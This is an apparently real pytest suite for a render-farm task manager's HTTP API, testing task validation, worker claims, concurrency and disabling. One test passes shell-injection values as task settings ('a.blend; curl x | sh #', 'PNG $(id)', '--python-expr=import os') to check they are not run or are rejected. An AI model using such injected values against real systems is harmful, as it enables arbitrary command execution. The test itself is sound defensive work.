"""The render/batch manager over real HTTP: tasks, workers, priority claims, progress, timeouts, races."""

from __future__ import annotations

import time
from uuid import uuid4

import pytest
import requests

from tests.helpers import RestClient, race


class Rest(RestClient):
    """Answers checked against their declared schemas (RestClient); (status, body)."""

    def __call__(self, method: str, path: str, body: dict | None = None):
        return super().__call__(method, path, body)[:2]


@pytest.fixture(scope="module")
def rest(admin, server) -> Rest:
    return Rest(server.base_url, admin.auth)


@pytest.fixture(scope="module")
def other_rest(other_admin, server) -> Rest:
    return Rest(server.base_url, other_admin.auth)


def make_task(rest, **kw) -> dict:
    body = {"type": "blender_render", "parser": "blender_render", "settings": '{"filepath": "/s/shot.blend"}', **kw}
    status, task = rest("POST", "/tasks", body)
    assert status == 202, task
    return task


def register(rest, hostname=None) -> int:
    hostname = hostname or f"render-{uuid4().hex[:8]}"
    status, body = rest("POST", "/workers", {"hostname": hostname, "system": "Linux 6.1"})
    assert status == 200, body
    return body[hostname]["id"]


def test_create_task_compiles_and_validates(rest):
    task = make_task(rest, priority=5, frame_start=3, frame_end=9)
    assert {k: task[k] for k in ("priority", "frame_start", "frame_end", "frame_current", "status", "worker_id")} == \
        {"priority": 5, "frame_start": 3, "frame_end": 9, "frame_current": 3, "status": "waiting", "worker_id": None}
    assert isinstance(task["id"], int)
    assert "--frame-start 3 --frame-end 9" in task["command"] and "/s/shot.blend" in task["command"]
    from_settings = make_task(rest, settings={"filepath": "/a.blend", "frame_start": 10, "frame_end": 20,
                                              "format": "EXR"})
    assert (from_settings["frame_start"], from_settings["frame_end"], from_settings["format"]) == (10, 20, "EXR")
    default = make_task(rest)
    assert (default["frame_start"], default["frame_end"]) == (1, 1)
    status, got = rest("GET", f"/tasks/{task['id']}")
    assert status == 200 and got["id"] == task["id"]
    for body, field in (({"type": "maya", "parser": "blender_render"}, "type"),
                        ({"type": "blender_render", "parser": "nuke"}, "parser"),
                        ({"type": "blender_render", "parser": "blender_render", "settings": "{}"}, "settings.filepath"),
                        ({"type": "blender_render", "parser": "blender_render", "settings": "not json"}, "settings"),
                        ({"type": "blender_render", "parser": "blender_render", "settings": {"filepath": "x"},
                          "frame_start": 9, "frame_end": 2}, "frame_start"),
                        ({"parser": "blender_render"}, "type"),
                        ({"type": "blender_render", "parser": "blender_render", "priority": "high"}, "priority")):
        status, err = rest("POST", "/tasks", body)
        assert status == 400 and err["field"] == field, (body, err)
        assert err["message"]


def test_commands_are_argument_lists_not_shell_lines(rest):
    """A setting's value is one argument whatever it holds; ``command`` is the same list, shell-quoted."""
    import shlex

    hostile = "a.blend; curl x | sh #"
    task = make_task(rest, settings={"filepath": hostile, "format": "PNG $(id)"}, frame_start=2, frame_end=4)
    assert task["args"] == ["blender", "--background", hostile, "--render-output", "//render/#####",
                            "--render-format", "PNG $(id)", "--frame-start", "2", "--frame-end", "4", "--render-anim"]
    assert shlex.split(task["command"]) == task["args"]
    status, got = rest("GET", f"/tasks/{task['id']}")
    assert status == 200 and got["args"] == task["args"]
    for settings, rule in (({"filepath": "--python-expr=import os"}, "option"),
                           ({"filepath": {"nested": "object"}}, "type"),
                           ({"filepath": "a\u0000b"}, "format")):
        status, err = rest("POST", "/tasks", {"type": "blender_render", "parser": "blender_render",
                                              "settings": settings})
        assert status == 400 and err["field"] == "settings.filepath", (settings, err)
        assert {"option": "option", "type": "string or a number", "format": "NUL"}[rule] in err["message"]


def test_unknown_ids_and_bad_paths(rest):
    assert rest("GET", "/tasks/999999")[0] == 404
    assert rest("PATCH", "/tasks/999999", {"priority": 1})[0] == 404
    assert rest("DELETE", "/tasks/999999")[0] == 404
    assert rest("GET", "/workers/999999")[0] == 404
    assert rest("PATCH", "/workers/999999", {"status": "available"})[0] == 404
    status, err = rest("GET", "/tasks/abc")
    assert status == 400 and err["field"] == "task_id"
    status, err = rest("PATCH", f"/workers/{register(rest)}", {"status": "sleepy"})
    assert status == 400 and err["field"] == "status"
    assert requests.get(rest.base_url + "/tasks").status_code == 401  # credentials needed


def test_workers_register_list_and_isolation(rest, other_rest, admin):
    hostname = f"render-{uuid4().hex[:8]}"
    first = register(rest, hostname)
    assert register(rest, hostname) == first  # idempotent by hostname
    status, workers = rest("GET", "/workers")
    assert status == 200 and workers[hostname]["connection"] == "online" and workers[hostname]["status"] == "enabled"
    assert hostname not in other_rest("GET", "/workers")[1]
    assert other_rest("GET", f"/workers/{first}")[0] == 404
    assert hostname in {w["id"] for w in admin.call("workers.get_all")["workers"]}  # the same workers
    status, info = rest("PATCH", f"/workers/{first}", {"status": "rendering", "update_frequent": {
        "load_average": {"1min": 2.1}, "worker_cpu_percent": 7.0}, "update_less_frequent": {"worker_num_cpus": 16}})
    assert status == 200
    status, info = rest("GET", f"/workers/{first}")
    assert info["update_frequent"]["worker_cpu_percent"] == 7.0
    assert info["update_less_frequent"]["worker_num_cpus"] == 16


def test_priority_claims_progress_and_completion(rest, other_rest):
    # drain what earlier tests left waiting, so this test sees only its own tasks
    for leftover in rest("GET", "/tasks?status=waiting")[1]:
        rest("PATCH", f"/tasks/{leftover['id']}", {"status": "canceled"})
    low = make_task(rest, priority=1, frame_start=1, frame_end=3)
    high_old = make_task(rest, priority=9, frame_start=1, frame_end=2)
    high_new = make_task(rest, priority=9)
    other_rest("POST", "/tasks", {"type": "blender_render", "parser": "blender_render", "priority": 100,
                                  "settings": {"filepath": "/x"}})
    worker = register(rest)
    assert rest("PATCH", f"/workers/{worker}", {"status": "available"})[1] == {"task_id": high_old["id"]}
    assert rest("GET", f"/tasks/{high_old['id']}")[1]["status"] == "rendering"
    assert rest("PATCH", f"/workers/{worker}", {"status": "rendering", "frame_current": 2})[1]["task_id"] is None
    done = rest("GET", f"/tasks/{high_old['id']}")[1]
    assert done["status"] == "completed" and done["frame_current"] == 2
    assert rest("PATCH", f"/workers/{worker}", {"status": "available"})[1] == {"task_id": high_new["id"]}
    assert rest("PATCH", f"/tasks/{high_new['id']}", {"frame_current": 1})[0] == 204
    assert rest("GET", f"/tasks/{high_new['id']}")[1]["status"] == "completed"
    status, err = rest("PATCH", f"/tasks/{low['id']}", {"frame_current": 7})
    assert status == 400 and err["field"] == "frame_current"
    assert rest("PATCH", f"/workers/{worker}", {"status": "available"})[1] == {"task_id": low["id"]}
    assert rest("DELETE", f"/tasks/{low['id']}")[0] == 202  # the worker holding it is freed
    assert rest("GET", f"/workers/{worker}")[1]["task_id"] is None
    assert rest("PATCH", f"/workers/{worker}", {"status": "available"})[1] == {"task_id": None}

    disabled = register(rest)
    waiting = make_task(rest, priority=50)
    rest("PATCH", f"/workers/{disabled}", {"status": "disabled"})
    assert rest("PATCH", f"/workers/{disabled}", {"status": "available"})[1] == {"task_id": None}
    assert rest("GET", f"/workers/{disabled}")[1]["status"] == "disabled"
    assert rest("PATCH", f"/workers/{disabled}", {"status": "enabled"})[1] == {"task_id": waiting["id"]}


def _render_worker(base_url: str, auth: str, name: str) -> list:
    session = requests.Session()
    session.headers["Authorization"] = auth
    worker = session.post(f"{base_url}/workers", json={"hostname": name}, timeout=90).json()[name]["id"]
    done, idle = [], 0
    while idle < 3:
        answer = session.patch(f"{base_url}/workers/{worker}", json={"status": "available"}, timeout=90)
        task_id = answer.json()["task_id"]
        if task_id is None:
            idle += 1
            time.sleep(0.2)
            continue
        idle = 0
        task = session.get(f"{base_url}/tasks/{task_id}", timeout=90).json()
        assert (task["worker_id"], task["status"]) == (worker, "rendering"), task
        resp = session.patch(f"{base_url}/workers/{worker}", json={"status": "rendering",
                                                                    "frame_current": task["frame_end"]}, timeout=90)
        assert resp.status_code == 200
        done.append(task_id)
    return done


def test_eight_workers_render_every_task_exactly_once(rest, server, admin):
    for leftover in rest("GET", "/tasks?status=waiting")[1]:
        rest("PATCH", f"/tasks/{leftover['id']}", {"status": "canceled"})
    ids = {make_task(rest, priority=i % 7)["id"] for i in range(200)}
    tag = uuid4().hex[:6]
    results = race(_render_worker, [(server.base_url, admin.auth, f"farm-{tag}-{i}") for i in range(8)],
                               timeout=600)
    rendered = [t for r in results for t in r]
    assert sorted(rendered) == sorted(ids), f"{len(rendered)} rendered, {len(set(rendered))} distinct"
    assert [bool(r) for r in results] == [True] * 8, [len(r) for r in results]  # all eight took part
    statuses = {t["id"]: t["status"] for t in rest("GET", "/tasks?limit=1000")[1] if t["id"] in ids}
    assert set(statuses.values()) == {"completed"}


def _keep_reporting(base_url: str, auth: str, worker: int, stop_file: str) -> int:
    """A worker that reports "available" as fast as it can until the operator is done."""
    import os

    session = requests.Session()
    session.headers["Authorization"] = auth
    reports, deadline = 0, time.monotonic() + 120
    while not os.path.exists(stop_file) and time.monotonic() < deadline:
        resp = session.patch(f"{base_url}/workers/{worker}", json={"status": "available"}, timeout=90)
        assert resp.status_code == 200, resp.text
        reports += 1
    return reports


def _disable_while_it_reports(base_url: str, auth: str, worker: int, stop_file: str) -> int:
    """The operator disables the reporting worker again and again; each time, once the worker has
    reported twice more, it must still be disabled and hold no task."""
    session = requests.Session()
    session.headers["Authorization"] = auth

    def after_two_reports() -> dict:
        seen, changes = None, 0
        while changes < 3:  # the report in flight at the disable, then two that started after it
            listing = session.get(f"{base_url}/workers", timeout=90).json()
            doc = next(w for w in listing.values() if w["id"] == worker)
            if doc["last_seen"] != seen:
                seen, changes = doc["last_seen"], changes + 1
        return doc

    try:
        for _ in range(8):
            assert session.post(f"{base_url}/workers/{worker}/setstatus", json={"status": "enabled"},
                                timeout=90).status_code == 200
            after_two_reports()
            assert session.post(f"{base_url}/workers/{worker}/setstatus", json={"status": "disabled"},
                                timeout=90).status_code == 200
            doc = after_two_reports()
            assert (doc["status"], doc["current_task"]) == ("disabled", None), doc
        return 8
    finally:
        open(stop_file, "w").close()  # noqa: SIM115 - a marker file


def _report_or_operate(base_url: str, auth: str, worker: int, stop_file: str, role: str) -> int:
    act = _keep_reporting if role == "worker" else _disable_while_it_reports
    return act(base_url, auth, worker, stop_file)


def test_a_disable_is_never_undone_by_a_report_in_flight(rest, server, admin, tmp_path):
    task = make_task(rest, priority=10**9 - 1)  # work for the worker whenever it is enabled
    wid = register(rest)
    stop_file = str(tmp_path / "operator-done")
    results = race(_report_or_operate, [(server.base_url, admin.auth, wid, stop_file, role)
                                        for role in ("worker", "operator")])
    assert results[1] == 8 and results[0] > 16, results
    held = rest("GET", f"/tasks/{task['id']}")[1]
    assert (held["status"], held["worker_id"]) == ("waiting", None)
    assert rest("PATCH", f"/tasks/{task['id']}", {"status": "canceled"})[0] == 204


def test_an_operator_disables_and_enables_a_worker(rest, other_rest):
    task = make_task(rest, priority=10**9)  # above whatever other tests left waiting
    wid = register(rest)
    assert rest("PATCH", f"/workers/{wid}", {"status": "available"})[1] == {"task_id": task["id"]}
    status, worker = rest("POST", f"/workers/{wid}/setstatus", {"status": "disabled"})
    assert status == 200 and (worker["status"], worker["current_task"]) == ("disabled", None)
    assert worker["last_seen"].endswith("+00:00")
    held = rest("GET", f"/tasks/{task['id']}")[1]
    assert (held["status"], held["worker_id"]) == ("waiting", None)  # back for another worker
    assert rest("PATCH", f"/workers/{wid}", {"status": "available"})[1] == {"task_id": None}  # no work
    assert rest("GET", f"/workers/{wid}")[1]["status"] == "disabled"
    assert rest("POST", f"/workers/{wid}/setstatus", {"status": "enabled"})[1]["status"] == "enabled"
    assert rest("PATCH", f"/workers/{wid}", {"status": "available"})[1] == {"task_id": task["id"]}
    status, err = rest("POST", f"/workers/{wid}/setstatus", {"status": "rendering"})
    assert status == 400 and (err["field"], err["rule"]) == ("status", "enum")
    assert rest("POST", "/workers/999999/setstatus", {"status": "enabled"})[0] == 404
    assert other_rest("POST", f"/workers/{wid}/setstatus", {"status": "disabled"})[0] == 404  # another workspace's
    assert rest("GET", f"/workers/{wid}")[1]["status"] == "rendering"
    assert rest("PATCH", f"/tasks/{task['id']}", {"status": "canceled"})[0] == 204


def test_a_worker_reporting_error_gives_its_frames_back(rest):
    """A worker that breaks mid-task reports ``error``: its task goes back to waiting, frames where they
    were, and the next worker asking for work gets it."""
    task = make_task(rest, priority=10**9 + 1, frame_start=1, frame_end=10)  # above anything left waiting
    broken, spare = register(rest), register(rest)
    assert rest("PATCH", f"/workers/{broken}", {"status": "available"})[1] == {"task_id": task["id"]}
    progress = rest("PATCH", f"/workers/{broken}", {"status": "rendering", "frame_current": 4})[1]
    assert progress == {"task_id": task["id"]}
    assert rest("PATCH", f"/workers/{broken}", {"status": "error"})[1] == {"task_id": None}
    back = rest("GET", f"/tasks/{task['id']}")[1]
    assert (back["status"], back["worker_id"], back["frame_current"]) == ("waiting", None, 4)
    status, worker = rest("GET", f"/workers/{broken}")
    assert (status, worker["status"], worker["task_id"]) == (200, "error", None)
    assert rest("PATCH", f"/workers/{spare}", {"status": "available"})[1] == {"task_id": task["id"]}
    taken = rest("GET", f"/tasks/{task['id']}")[1]
    assert (taken["status"], taken["worker_id"], taken["frame_current"]) == ("rendering", spare, 4)
    assert rest("PATCH", f"/tasks/{task['id']}", {"status": "canceled"})[0] == 204
